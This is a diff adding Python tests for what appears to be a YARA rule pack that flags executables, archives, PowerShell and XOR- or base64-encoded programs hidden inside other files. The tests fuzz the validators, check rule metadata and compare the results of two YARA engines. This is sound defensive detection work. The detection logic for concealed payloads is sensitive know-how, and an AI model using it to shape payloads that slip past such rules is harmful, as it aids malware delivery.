+    make_elf32_big_endian(), make_elf_object(), make_macho(), make_macho(">", wide=False),
+    make_universal(), make_class(), make_lnk(flags=0xFF), make_zip("a", "__main__.py"),
+    make_rar4(), make_rar5(), make_7z(), make_cab(), make_ole(), make_pdf(), real_pe()[:1024],
+    POWERSHELL, xor(real_pe()[:1024], 7),
+]  # fmt: skip
+
+
+def assert_sound(data: bytes, hit: int, low: int, high: int) -> None:
+    for name, validator in VALIDATORS.items():
+        payload = validator(data, hit, low, high)
+        if payload is not None:
+            assert 0 <= payload.start <= hit < payload.end <= len(data), name
+            assert payload.description.isprintable(), name
+
+
+@given(st.lists(st.sampled_from(MAGICS) | st.binary(max_size=24), min_size=1), st.data())
+def test_arbitrary_bytes_with_magics_in_them_never_break_a_validator(
+    parts: list[bytes], draw: st.DataObject
+) -> None:
+    data = b"".join(parts) or b"\0"
+    hit = draw.draw(st.sampled_from([sum(map(len, parts[:n])) for n in range(len(parts))]))
+    hit = min(hit, len(data) - 1)
+    low = draw.draw(st.integers(0, hit))
+    assert_sound(data, hit, low, draw.draw(st.integers(hit + 1, len(data))))
+
+
+@given(st.sampled_from(SMALL), st.binary(max_size=8), st.data())
+@settings(max_examples=400)
+def test_altered_files_never_break_a_validator(
+    content: bytes, front: bytes, draw: st.DataObject
+) -> None:
+    data = bytearray(front + content)
+    for offset in draw.draw(st.lists(st.integers(len(front), len(data) - 1), max_size=6)):
+        data[offset] = draw.draw(st.sampled_from([0, 1, 0x7F, 0x80, 0xFF]))
+    altered_data = bytes(data[: draw.draw(st.integers(len(front) + 1, len(data)))])
+    hits = [len(front)] + [offset for _, offset, _ in triggers(altered_data)]
+    for hit in hits:
+        assert_sound(altered_data, hit, min(len(front), hit), len(altered_data))
+
+
+def test_a_flood_of_triggers_is_refused_at_small_cost() -> None:
+    """10,000 is what the engine asks at most; each answer may not read the file anew."""
+    flood = b"".join(
+        (b"PK\5\6" + struct.pack("<4H2IH", 0, 0, 9, 9, 900 + 22 * n, 0, 0)) for n in range(10_000)
+    )
+    directory = struct.pack("<4s6H3I5H2I", b"PK\1\2", *[0] * 9, 54, *[0] * 6) * 9
+    data = make_zip("a") + directory + flood
+    validator = VALIDATORS["zip"]
+    for hit in range(len(data) - len(flood), len(data), 22):
+        assert validator(data, hit, 0, len(data)) is None
+
+
+# --- the pack itself ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", sorted(RULES.glob("*.yar")), ids=lambda path: path.name)
+def test_a_rule_file_compiles_without_a_warning_under_both_engines(path: Path) -> None:
+    compiler = yara_x.Compiler()
+    compiler.add_source(path.read_text())
+    assert compiler.warnings() == []
+    yara = pytest.importorskip("yara")
+    yara.compile(filepath=str(path), error_on_warning=True, includes=False)
+
+
+@pytest.mark.parametrize("name", sorted(metas()))
+def test_a_rule_says_everything_that_its_finding_needs(name: str) -> None:
+    meta = metas()[name]
+    assert set(meta) >= REQUIRED_META
+    assert set(meta) <= REQUIRED_META | OPTIONAL_META
+    assert all(isinstance(value, str) and value for value in meta.values())
+    assert meta["category"] in set(Category)
+    assert meta["severity"] in {str(severity) for severity in Severity}
+    assert meta.get("polyglot_severity", "high") in {str(severity) for severity in Severity}
+    assert meta["confidence"] in {str(confidence) for confidence in Confidence}
+    assert meta["where"] in PLACES
+    assert meta["id"].startswith("EMB-")
+    assert meta.get("polyglot", "POLY-X").startswith("POLY-")
+
+
+def test_every_validator_is_used_and_every_one_used_exists() -> None:
+    assert {meta["validator"] for meta in metas().values() if "validator" in meta} == set(
+        VALIDATORS
+    )
+
+
+def test_every_rule_has_something_that_fires_it_and_a_near_miss() -> None:
+    elsewhere = {"dos_stub", "xored_pe", "base64_program", "eicar"}
+    assert {sample.rule for sample in SAMPLES.values()} == set(metas()) - elsewhere
+    assert {rule for rule, _ in NEAR_MISSES.values()} == set(metas()) - elsewhere
+
+
+def test_both_engines_match_at_the_same_places() -> None:
+    yara = pytest.importorskip("yara")
+    rules = yara.compile(filepaths={path.stem: str(path) for path in RULES.glob("*.yar")})
+    data = FRONT.join(
+        [sample.make() for name, sample in SAMPLES.items() if name != "zip64"]
+        + [xor(STUB, 9), base64.b64encode(STUB), EICAR]
+    )
+    theirs = {
+        (match.rule, instance.offset, instance.matched_length)
+        for match in rules.match(data=data)
+        for string in match.strings
+        for instance in string.instances
+    }
+    assert set(triggers(data)) == theirs
